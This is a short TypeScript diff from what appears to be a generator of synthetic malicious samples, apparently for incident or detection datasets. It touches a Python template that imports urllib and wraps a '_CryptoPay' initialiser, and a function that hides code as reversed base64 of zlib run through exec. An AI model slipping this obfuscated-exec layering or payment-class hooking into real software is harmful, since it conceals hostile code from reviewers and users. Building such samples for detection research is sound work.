@@ -5,7 +5,7 @@ import { fillerCode } from './filler.ts';
 import { beforeAttack, type Draft, type Remote, type Replay, siteIn, textOf } from './incident.ts';
 import { sdkLibrary } from './libraries/sdk.ts';
 import { compressedTables } from './look-alikes/text.ts';
-import { py } from './python-text.ts';
+import { py, reversed } from './python-text.ts';
 
 const PLAINTEXT = (c: Remote): string => py`
 import urllib.request as _u, urllib.parse as _p
@@ -23,7 +23,7 @@ _CryptoPay.__init__ = _wrapped
 
 /** One layer: reversed base64 of zlib, executed by a lambda. */
 function layer(source: string): string {
-  const text = [...base64(deflateSync(Buffer.from(source), { level: 9 }))].reverse().join('');
+  const text = reversed(base64(deflateSync(Buffer.from(source), { level: 9 })));
   return `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${text}'))`;
 }
 
